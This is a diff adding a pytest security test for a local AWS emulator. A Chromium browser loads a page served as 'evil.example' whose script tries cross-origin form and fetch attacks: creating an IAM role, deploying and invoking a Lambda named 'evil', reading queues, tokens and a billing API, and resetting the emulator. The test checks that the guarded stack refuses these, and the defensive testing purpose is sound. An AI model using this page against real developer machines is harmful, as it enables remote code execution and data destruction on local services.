@@ -1,0 +1,201 @@
+"""What a web page in the developer's browser can do to the local stack, in a real browser."""
+
+import base64
+import io
+import json
+import os
+import threading
+import zipfile
+from collections.abc import Iterator, Sequence
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from botocore.exceptions import ClientError
+
+from local import emulator, setup, tether
+from ops.access import Access, to_emulator
+from tests.browser import chromium
+from tests.browser.chromium import Chromium
+from tests.local_stack import LocalStack
+
+_PAGE_TIMEOUT_S = 60
+
+# Tries everything that needs no consent: forms, as in 1995, and what fetch() sends to other origins without asking.
+_PAGE = """<!doctype html><iframe name="answer"></iframe><script>
+const {endpoint, byName, keys, role, definition, token, api, bearer} = ATTACK;
+
+const submit = (url, enctype, fields) => new Promise(resolve => {
+  const form = document.createElement("form");
+  Object.assign(form, {method: "post", action: url, enctype, target: "answer"});
+  for (const [name, value] of fields) {
+    form.append(Object.assign(document.createElement("input"), {name, value}));
+  }
+  document.body.append(form);
+  document.querySelector("iframe").onload = resolve;
+  form.submit();
+});
+
+// What the page may read of the answer.
+const read = (url, options) => fetch(url, options).then(
+  async answer => answer.type === "opaque" ? "sent" : `${answer.status} ${await answer.text()}`, () => "refused");
+
+const presigned = (path, key, service) => `${endpoint}${path}?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=` +
+  `${key}/20261127/us-east-1/${service}/aws4_request&X-Amz-Date=20261127T000000Z&X-Amz-Expires=604800` +
+  "&X-Amz-SignedHeaders=host&X-Amz-Signature=" + "0".repeat(64);
+
+(async () => {
+  const reports = {};
+  for (const key of keys) {
+    await submit(presigned("/", key, "iam"), "application/x-www-form-urlencoded", role);
+    await submit(presigned("/2015-03-31/functions", key, "lambda"), "text/plain", [definition]);
+    await submit(presigned("/2015-03-31/functions/evil/invocations", key, "lambda"), "text/plain", [['{"a": "', '"}']]);
+    const headers = {"X-Amz-Target": "DynamoDB_20120810.ListTables", "Content-Type": "application/x-amz-json-1.0",
+      Authorization: `AWS4-HMAC-SHA256 Credential=${key}/20261127/us-east-1/dynamodb/aws4_request, ` +
+        `SignedHeaders=host, Signature=${"0".repeat(64)}`};
+    reports[`tables by ${key}`] = await read(endpoint, {method: "POST", headers, body: "{}"});
+  }
+  reports.events = await read(`${endpoint}/_ministack/sqs/messages`);
+  reports.token = await read(token, {method: "POST", body: new URLSearchParams({client_id: "demo-org"})});
+  reports.api = await read(api, {headers: {Authorization: `Bearer ${bearer}`}});
+  await read(`${byName}/_ministack/reset`, {method: "POST", mode: "no-cors"});
+  await read(`${endpoint}/_ministack/reset`, {method: "POST", mode: "no-cors"});
+  await fetch("/report", {method: "POST", body: JSON.stringify(reports)});
+})();
+</script>
+"""
+
+_ROLE = {
+    "Action": "CreateRole",
+    "Version": "2010-05-08",
+    "RoleName": "any",
+    "AssumeRolePolicyDocument": json.dumps(
+        {
+            "Version": "2012-10-17",
+            "Statement": [
+                {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
+            ],
+        }
+    ),
+}
+
+
+@pytest.fixture(scope="module")
+def browser() -> Chromium:
+    found = chromium.find()
+    if found is None:
+        pytest.skip("no Chromium: npm has one for Linux on x86-64; elsewhere put `chromium` on the PATH")
+    return found
+
+
+def test_a_page_runs_code_by_the_bare_emulator_and_does_nothing_through_the_door(
+    browser: Chromium, stack: LocalStack, tmp_path: Path
+) -> None:
+    with _bare_emulator(tmp_path) as bare:
+        bare.sqs().create_queue(QueueName="wiped-by-the-page")
+        reports = _attack(browser, bare.endpoint or "", ["test"], tmp_path / "ran-by-bare")
+        assert (tmp_path / "ran-by-bare").exists()
+        assert reports["tables by test"] == '200 {"TableNames": []}'
+        # It was reset: what the page made is gone with all the rest.
+        assert not bare.sqs().list_queues().get("QueueUrls")
+
+    keys = ["test", "000000000000", stack.stack.access_key_id]
+    queues = stack.access.sqs().list_queues()["QueueUrls"]
+    token = stack.token(stack.new_organization(), scopes=["usage:read"])
+    reports = _attack(browser, stack.stack.endpoint, keys, tmp_path / "ran", stack.stack.token_endpoint, token)
+    assert set(reports.values()) == {"refused"}
+    assert not (tmp_path / "ran").exists()
+    client: Any = stack.access.session.client("lambda", endpoint_url=stack.stack.endpoint)
+    with pytest.raises(ClientError, match="ResourceNotFound"):
+        client.get_function(FunctionName="evil")
+    assert stack.access.sqs().list_queues()["QueueUrls"] == queues
+
+
+def _attack(
+    browser: Chromium, endpoint: str, keys: Sequence[str], marker: Path, token: str = "", bearer: str = ""
+) -> dict[str, str]:
+    """Open the page in `browser`, with a function that writes `marker`; what it reports when everything is tried."""
+    attack = {
+        "endpoint": endpoint,
+        "byName": endpoint.replace("127.0.0.1", "evil.example"),
+        "keys": keys,
+        "role": list(_ROLE.items()),
+        "definition": _function(marker),
+        "token": token or f"{endpoint}/token",
+        "api": f"{endpoint}/saas/billing/usage/summary/v1.0.0",
+        "bearer": bearer,
+    }
+    reported = threading.Event()
+    reports: dict[str, str] = {}
+
+    class Site(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self._answer(_PAGE.replace("ATTACK", json.dumps(attack)).encode())
+
+        def do_POST(self) -> None:
+            reports.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+            self._answer(b"")
+            reported.set()
+
+        def _answer(self, body: bytes) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
+        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+        with browser.visiting(f"http://evil.example:{server.server_port}/"):
+            assert reported.wait(_PAGE_TIMEOUT_S), "the page did not report within a minute"
+        server.shutdown()
+    return reports
+
+
+def _function(marker: Path) -> tuple[str, str]:
+    """A form's field that is the definition of a function as JSON, when the browser puts `=` between name and value."""
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as code:
+        code.writestr("index.py", f"def handler(event, context):\n    open({str(marker)!r}, 'w').close()\n")
+    definition = {
+        "FunctionName": "evil",
+        "Runtime": "python3.13",
+        "Role": "arn:aws:iam::000000000000:role/any",
+        "Handler": "index.handler",
+        "Code": {"ZipFile": base64.b64encode(archive.getvalue()).decode()},
+    }
+    return json.dumps(definition)[:-1] + ', "Description": "', '"}'
+
+
+@contextmanager
+def _bare_emulator(directory: Path) -> Iterator[Access]:
+    """The emulator as it is without the door."""
+    port = emulator.free_port()
+    environment = {
+        "PATH": os.defpath,
+        "HOME": str(directory),
+        "TMPDIR": str(directory),
+        "STATE_DIR": str(directory / "state"),
+        "S3_DATA_DIR": str(directory / "s3"),
+        "GATEWAY_PORT": str(port),
+        "BIND_HOST": "127.0.0.1",
+        "AUTH": "true",
+        "IOT_MTLS_ENABLED": "0",
+        "DOCKER_HOST": f"unix://{directory}/no-docker.sock",
+    }
+    endpoint = f"http://127.0.0.1:{port}"
+    lock = os.open(directory / "lock", os.O_RDWR | os.O_CREAT, 0o600)
+    try:
+        with (directory / "bare.log").open("wb") as log:
+            process = tether.start([setup.EMULATOR_PYTHON, "-m", "ministack"], environment, directory, log, lock)
+        try:
+            emulator.wait_until_ready(process, endpoint, emulator.new_keys(), directory / "bare.log")
+            yield to_emulator(endpoint, emulator.REGION, "test", "test")
+        finally:
+            tether.end(process)
+    finally:
+        os.close(lock)
